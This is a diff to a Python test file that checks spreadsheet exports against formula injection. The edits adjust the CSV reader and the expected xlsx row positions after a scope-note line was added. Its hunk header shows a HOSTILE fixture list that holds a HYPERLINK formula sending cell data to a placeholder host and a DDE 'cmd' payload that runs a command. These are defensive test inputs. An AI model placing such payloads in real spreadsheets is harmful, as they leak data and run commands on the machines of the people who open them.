@@ -21,8 +21,10 @@ HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"klikk")', "+1+cmd|' /C calc'!A0"
 
 
 def read_csv(path):
+    """The table, without its first line when that is the scope's comment."""
     with open(path, encoding="utf-8-sig", newline="") as fh:
-        return list(csv.reader(fh))
+        rows = list(csv.reader(fh))
+    return rows[1:] if rows and rows[0][0].startswith("# ") else rows
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -88,9 +90,9 @@ def test_matrix_xlsx_keeps_the_text_and_marks_it_as_text(hostile, tmp_path):
     labels = {c.value: c for c in ws["A"]}
     assert labels["=1+2"].data_type == "s" and labels["=1+2"].quotePrefix
     assert not labels["fg1"].quotePrefix
-    header = {c.value: c for c in ws[2]}
+    header = {c.value: c for c in ws[3]}  # under the title and the scope note
     assert header["-NAV+1"].quotePrefix and header["-NAV+1"].data_type == "s"
-    assert all(isinstance(c.value, int) for c in ws[3][1:])  # counts stay numbers
+    assert all(isinstance(c.value, int) for c in ws[4][1:])  # counts stay numbers
     write_matrix_xlsx(share, tmp_path / "s.xlsx", "Andel")
     ws = load_workbook(tmp_path / "s.xlsx").active
-    assert all(isinstance(c.value, (int, float)) and not c.quotePrefix for c in ws[3][1:])
+    assert all(isinstance(c.value, (int, float)) and not c.quotePrefix for c in ws[4][1:])
